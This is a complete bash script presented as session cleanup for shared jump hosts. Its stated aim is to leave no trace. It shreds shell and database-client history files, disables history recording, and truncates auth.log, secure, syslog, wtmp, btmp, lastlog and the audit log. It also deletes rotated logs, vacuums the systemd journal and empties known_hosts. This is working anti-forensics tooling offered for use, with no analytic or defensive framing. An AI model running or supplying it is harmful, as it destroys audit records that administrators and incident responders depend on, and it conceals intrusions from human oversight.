#!/usr/bin/env bash
# Post-session cleanup for shared jump hosts: leave no trace of the session.
set -u

QUIET=0
[[ "${1:-}" == "-q" ]] && QUIET=1

note() { (( QUIET )) || printf '  - %s\n' "$*"; }

HIST_FILES=(
    "$HOME/.bash_history"
    "$HOME/.zsh_history"
    "$HOME/.python_history"
    "$HOME/.mysql_history"
    "$HOME/.psql_history"
    "$HOME/.lesshst"
    "$HOME/.viminfo"
    "$HOME/.local/share/recently-used.xbel"
)

SYS_LOGS=(
    /var/log/auth.log
    /var/log/secure
    /var/log/syslog
    /var/log/messages
    /var/log/wtmp
    /var/log/btmp
    /var/log/lastlog
    /var/log/audit/audit.log
)

run_root() {
    if [[ $EUID -eq 0 ]]; then "$@"; else sudo -n "$@" 2>/dev/null; fi
}

scrub_shell_history() {
    unset HISTFILE
    export HISTSIZE=0 HISTFILESIZE=0
    history -c 2>/dev/null || true
    local f
    for f in "${HIST_FILES[@]}"; do
        [[ -e "$f" ]] || continue
        if command -v shred >/dev/null; then
            shred -zu -n 3 -- "$f" 2>/dev/null
        else
            : > "$f"
        fi
        ln -sf /dev/null "$f" 2>/dev/null && note "history $f -> /dev/null"
    done
}

scrub_system_logs() {
    local f
    for f in "${SYS_LOGS[@]}"; do
        [[ -e "$f" ]] || continue
        run_root truncate -s 0 -- "$f" && note "truncated $f"
    done
    run_root find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' -o -name '*.old' \) -delete \
        && note "removed rotated logs"
}

scrub_journal() {
    command -v journalctl >/dev/null || return 0
    run_root journalctl --rotate >/dev/null 2>&1
    run_root journalctl --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
}

scrub_misc() {
    rm -rf -- "$HOME/.cache/thumbnails" "$HOME/.ssh/known_hosts.old" 2>/dev/null
    : > "$HOME/.ssh/known_hosts" 2>/dev/null && note "known_hosts emptied"
    rm -f /tmp/.X*-lock 2>/dev/null || true
}

main() {
    (( QUIET )) || echo "scrubbing session on $(hostname)"
    scrub_shell_history
    scrub_system_logs
    scrub_journal
    scrub_misc
    (( QUIET )) || echo "done"
}

main "$@"
